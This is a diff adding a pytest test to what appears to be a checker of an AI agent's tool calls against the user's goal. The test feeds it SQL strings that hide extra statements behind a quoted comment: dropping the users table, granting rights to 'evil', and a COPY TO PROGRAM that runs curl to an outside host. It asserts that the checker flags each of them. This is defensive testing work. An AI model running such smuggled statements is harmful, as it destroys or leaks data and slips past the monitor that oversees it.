@@ -635,6 +635,20 @@ def test_what_the_goal_forbids_is_held_even_where_it_is_light() -> None:
     assert findings("Fix it on a branch, don't push to main.", listed, "Bash", command=push) == []
 
 
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "select 1 /*! ' */; drop table users; -- '",
+        "select 1 /*!' */; copy users to program 'curl a.example'; select '",
+        "select 1 /*! ' */; grant all on users to evil; -- '",
+    ],
+)
+def test_a_comment_with_a_quote_hides_no_statement(statement: str) -> None:
+    goal = "Count the users."
+    assert findings(goal, "All is well.", "execute_sql", sql=statement) != []
+    assert findings(goal, "All is well.", "Bash", command=f'psql -c "{statement}"') != []
+
+
 IMAGES = "Faster builds: the base image tidewater/alpine-plus and the action tidewater/quick-cache help many teams."
 
 
